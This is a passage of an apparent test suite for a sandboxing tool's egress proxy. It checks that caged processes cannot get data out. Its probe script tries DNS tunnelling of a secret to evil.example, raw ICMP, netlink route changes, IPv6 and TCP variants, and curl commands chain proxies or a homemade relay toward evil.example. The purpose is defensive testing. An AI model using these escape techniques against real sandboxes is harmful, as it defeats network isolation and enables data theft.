        "s3cret" not in json.dumps(answer.json) and "PAIR=" not in answer.out,
        "and no part of the cage or the result holds",
        answer,
    )
    answer = shell(s, "true", more=SITE + 'credentials = "env:PAIR"\n')
    check(
        answer.status == "denied" and "egress.credentials" in answer.message,
        "none: the call is refused",
        answer,
    )


SITE = '[egress]\nupstream = "http://10.1.2.3:3128"\n'
connected, heads = [], []


@functools.cache
def begin_upstream():
    serve(Streams((PRIVATE, 3128), Connect))


class Connect(socketserver.StreamRequestHandler):
    """A site's proxy."""

    def handle(self):
        words = self.rfile.readline().split()
        while line := self.rfile.readline().strip():
            if line.lower().startswith(b"proxy-authorization:"):
                heads.append(line.split(b": ", 1)[1].decode())
        if len(words) < 2:
            return
        host, port = words[1].decode().rsplit(":", 1)
        connected.append(f"{host}:{port}")
        outer = socket.create_connection((NAMES.get(host, [host])[0], int(port)))
        self.wfile.write(b"HTTP/1.1 200 OK\r\n\r\n")
        threading.Thread(target=self.copy, args=[outer, self.request], daemon=True).start()
        self.copy(self.request, outer)

    @staticmethod
    def copy(one, other):
        with contextlib.suppress(OSError):
            while data := one.recv(65536):
                other.sendall(data)
            other.shutdown(socket.SHUT_WR)


BESIDE = r"""
import os, socket, struct, sys
def tell(name, act):
    try: print(name, "out:", act())
    except OSError as error: print(name, "no:", error.errno)
def question(name, kind=16):
    return b"\x11\x22\1\0\0\1\0\0\0\0\0\0" + b"".join(bytes([len(x)]) + x.encode() for x in name.split(".")) + b"\0" + struct.pack(">HH", kind, 1)
def asks(server, name, kind=16):
    s = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
    s.sendto(question(name, kind), (server, 53)); return s.recv(999)[3] & 15
secret = os.urandom(30).hex()
for kind in (1, 16, 10, 255, 28):
    for name in (f"{secret}.evil.example", f"{secret}.api.example.com", secret):
        answer = asks("127.0.0.1", name, kind)
        print("tunnel", "no:" if answer == 3 else "out:", answer)
for server in ("8.8.8.8", "93.184.216.99", "198.18.0.1", "2606:2800:21f:cb07::34"):
    tell("datagram", lambda: asks(server, f"{secret}.evil.example"))
def packet(family, kind, protocol):
    s = socket.socket(family, kind, protocol); s.settimeout(1); s.sendto(b"\10\0\xf7\xff\0\0\0\0" + secret.encode(), ("93.184.216.99", 0) if family == 2 else ("2606:2800:21f:cb07::34", 0)); return s.recv(99)
for family, kind, protocol in ((2, 3, 1), (2, 2, 1), (10, 3, 58), (10, 2, 58), (2, 3, 255), (17, 3, 0x300)):
    tell("packet", lambda: packet(family, kind, protocol))
def link(kind, body):
    s = socket.socket(16, 3, 0); s.settimeout(1)
    s.send(struct.pack("=IHHII", 16 + len(body), kind, 0x605, 1, 0) + body)
    error, = struct.unpack("=i", s.recv(999)[16:20])
    if error: raise OSError(-error, "refused")
    return "made"
info = struct.pack("=BxHiII", 0, 0, 0, 1, 1) + struct.pack("=HH8s", 12, 3, b"way0\0\0\0\0") + struct.pack("=HH", 16, 18) + struct.pack("=HH8s", 12, 1, b"dummy\0\0\0")
tell("netlink", lambda: link(16, info))
tell("netlink", lambda: link(24, struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 3, 0, 1, 0) + struct.pack("=HHI", 8, 4, 1)))
for host in ("2606:2800:21f:cb07::34", "::ffff:93.184.216.99", "64:ff9b::5db8:d863", "fe80::1%lo"):
    tell("v6", lambda: socket.create_connection((host, 443), 3))
def dials(protocol, device):
    s = socket.socket(2, 1, protocol); s.settimeout(3)
    if device: s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device)
    s.connect(("93.184.216.99", 80)); return "connected"
tell("connect", lambda: dials(0, b""))
tell("device", lambda: dials(0, b"lo"))
tell("mptcp", lambda: dials(262, b""))
tell("fastopen", lambda: socket.socket().sendto(secret.encode(), socket.MSG_FASTOPEN, ("93.184.216.99", 80)))
print("others", sorted(int(p) for p in os.listdir("/proc") if p.isdigit()), flush=True)
"""
RELAY = r"""
import os, socket, threading
def copy(a, b):
    try:
        while data := a.recv(65536): b.sendall(data)
        b.shutdown(1)
    except OSError: pass
def serve(a):
    host, port = os.environ["http_proxy"][7:].split(":")
    b = socket.create_connection((host, int(port))); threading.Thread(target=copy, args=(b, a), daemon=True).start(); copy(a, b)
s = socket.create_server(("127.0.0.1", 9999)); print("up", flush=True)
while True: threading.Thread(target=serve, args=(s.accept()[0],), daemon=True).start()
"""


def beside(s):
    """Ways out that know no connection, a second hop, and what another cage listens on."""
    s.works("net.allow")
    asked.clear()
    free = subprocess.run(
        ["/usr/bin/python3", "-I", "-c", BESIDE], capture_output=True, text=True, timeout=60, check=False
    ).stdout
    ways = {line.split()[0] for line in free.splitlines() if " out: " in line}
    check(
        ways
        >= {
            "datagram",
            "v6",
            "connect",
            "device",
            "fastopen",
            *(("packet", "netlink") if os.geteuid() == 0 else ()),
        }
        and [name for name in asked if name.endswith(".api.example.com")],
        "without a cage each of them gets out",
        (free, asked),
    )
    asked.clear()
    answer = s.python(BESIDE, network=ENTRIES, writable=())
    lines_ = answer.out.splitlines()
    check(
        answer.status == "ok" and len(lines_) > 30 and not [line for line in lines_ if "out:" in line],
        "questions, datagrams, packets, netlink, IPv6, devices, TCP of other kinds: nothing leaves",
        answer,
    )
    check(not asked, "bytes that names carried out: 0", asked)
    check(len(lines_[-1].split(",")) <= 3, "and no process of the proxy is to be seen", lines_[-1])
    serve(Streams((API, 3130), Connect))
    answer = shell(
        s,
        "curl -sS -m 5 --noproxy '*' --proxytunnel --proxy http://api.example.com:3130 http://evil.example/; curl -sS -m 5 --preproxy $http_proxy --proxytunnel --proxy http://api.example.com:3130 http://evil.example/;"
        " curl -sS -m 5 --proxy http://api.example.com:3130 http://evil.example/",
        '["api.example.com:3130"]',
    )
    check(
        "evil" not in answer.out and not connected and "api.example.com:3130" in target(answer),
        "a proxy that is granted is no second hop",
        (answer, connected),
    )
    del connected[:]
    script = f"/usr/bin/python3 -I -c '{RELAY}' & sleep 1; "
    answer = shell(
        s,
        script
        + f"for h in api evil; do curl -sS -m 9 {CA} --proxy http://127.0.0.1:9999 --noproxy none.example -w '%{{http_connect}}\\n' https://$h.example.com/ https://$h.example/; done; kill %1",
    )
    check(
        '"host": "api.example.com"' in answer.out
        and answer.out.count("403") >= 2
        and "evil.example:443" in target(answer),
        "a relay of the tool's own gets the same answers",
        answer,
    )
    process = s.begin(
        f"/usr/bin/python3 -I -c 'import socket; s = socket.create_server((\"0.0.0.0\", 7777)); s.accept()' & sleep 1; {PAUSE}",
        network=ENTRIES,
        writable=(),
    )
    answer = shell(
        s,
        "curl -sS -m 3 --noproxy '*' http://127.0.0.1:7777/; curl -sS -m 3 http://127.0.0.1:7777/; curl -sS -m 3 --noproxy '*' http://198.18.0.1:7777/",
    )
    check(
        answer.out.count('"error"') <= 1 and answer.code == 7, "a port of another cage is not reached", answer
    )
    for host in ("127.0.0.1", API, "198.18.0.1"):
        try:
            socket.create_connection((host, 7777), 2).close()
            check(False, f"nor does this machine reach it: {host}")
        except OSError:
            check(True, f"nor does this machine reach it: {host}")
    process.communicate(b"\n", 30)


def limited(s):
    """How many connections, how much, how fast."""
    s.works("net.allow")
    get = "curl -sS -o /dev/null -w '%{size_download} %{http_code}\\n' http://api.example.com/bytes/"
    answer = shell(s, f"{get}20000; {get}20000; {get}20000; {get}1", more='transfer = "50KB"')
    check(
        answer.out.startswith("20000 200\n20000 200\n") and "20000 200\n20000 200\n20000" not in answer.out,
        "transfer: what fits comes",
        answer,
    )
    check(
        answer.out.rstrip().endswith("403")
        and answer.json["usage"]["ingress_bytes"] + answer.json["usage"]["egress_bytes"] <= 50000,
        "and no byte more, then 403",
        answer,
    )
    check(
        "api.example.com:80" in target(answer) and "transfer" in json.dumps(answer.json["denials"]),
        "with the denial that says so",
        answer,
    )
    check(answer.status == "ok", "a tool that ends well all the same has", answer)
    answer = shell(s, f"{get}60000 && true", more='transfer = "50KB"')
    check(
        answer.status == "limit" and answer.json["limit"] == "transfer",
        "one that fails failed by its limit",
        answer,
    )
    answer = shell(
        s,
        f"head -c 60000 /dev/zero > /tmp/z; curl -sS {CA} -H Expect: -T /tmp/z --noproxy '*' https://api.example.com/put",
        more='transfer = "50KB"',
    )
    check(
        answer.status == "limit" and answer.json["usage"]["egress_bytes"] <= 50000,
        "sent bytes count, also within TLS",
        answer,
    )
    answer = shell(
        s,
        "curl -sS http://api.example.com/bytes/40000; curl -sS -m 9 http://api.example.com/bytes/40000",
        REQUESTS_PLAIN,
        more='transfer = "50KB"',
    )
    check(
        answer.status == "limit" and answer.json["usage"]["ingress_bytes"] <= 50000,
        "bytes of inspected connections count",
        answer,
    )
    seconds = {}
    for rate in ("100KB", "10MB"):
        answer = shell(s, f"{get}200000; {get}100000 & {get}100000; wait", more=f'bandwidth = "{rate}"')
        check(
            answer.status == "ok" and answer.out.count(" 200") == 3,
            f"bandwidth {rate}: all of it comes",
            answer,
        )
        seconds[rate] = answer.json["usage"]["wall_ms"] / 1000
    check(
        3.5 <= seconds["100KB"] and seconds["10MB"] < seconds["100KB"],
        "400 kB at 100 kB a second, and at a hundred times that",
        seconds,
    )
    hold = 'import socket; a = [socket.create_connection(("api.example.com", 2222)) for _ in range(4)]; print([c.recv(9) for c in a])'
    answer = s.python(hold, network=ENTRIES, writable=(), more="connections = 3")
    check(
        answer.status == "failed" and "connections" in json.dumps(answer.json["denials"]),
        "connections: one more than may be",
        answer,
    )
    answer = s.python(hold, network=ENTRIES, writable=(), more="connections = 4")
    check(answer.status == "ok", "as many as may be", answer)


REQUESTS_PLAIN = '[{ host = "api.example.com", port = 80, methods = ["GET"] }]'


def ends(s):
    """The proxy goes with its cage, and the cage's network with the proxy."""
    s.works("net.allow")
    process = s.begin(
        f"curl -sS {CA} https://api.example.com/; {PAUSE}; curl -sS -m 5 {CA} https://api.example.com/",
        network=ENTRIES,
        readable=[f'{{ path = "/ca", from = "{network}" }}'],
        writable=(),
    )
    proxies = proxies_here()
    check(len(proxies) == 1, "one proxy for the cage", proxies)
    for pid in proxies:
        os.kill(pid, 9)
    out, err = process.communicate(b"\n", 30)
    answer = json.loads(out)
    check(
        answer["status"] == "error" and "egress proxy" in answer["error"]["message"],
        "killed: the call is an error that says so",
        (out, err),
    )
    check(gone(proxies), "and none is left")
    answer = shell(s, f"curl -sS {CA} https://api.example.com/")
    check(answer.status == "ok" and gone(proxies_here()), "after the next call, too", answer)


def proxies_here():
    found = []
    for entry in filter(str.isdigit, os.listdir("/proc")):
        with contextlib.suppress(OSError), open(f"/proc/{entry}/cmdline", "rb") as file:
            if file.read() == b"toolcage-egress\0" and os.readlink(f"/proc/{entry}/ns/net") == os.readlink(
                "/proc/self/ns/net"
            ):
                found.append(int(entry))
    return found


def gone(pids):
    return until(lambda: not any(os.path.exists(f"/proc/{pid}") for pid in pids), 5)


run(
    named_hosts,
    learned,
    last_words,
    everything_else,
    inside,
    other_hosts,
    killed,
    any_public,
    patterns,
    beside,
    behind,
    inspected,
    trusted,
    secrets,
    masked,
    kept_out,
    contained,
    limited,
    ends,
    brief=(named_hosts, inside, beside, kept_out, ends),
)
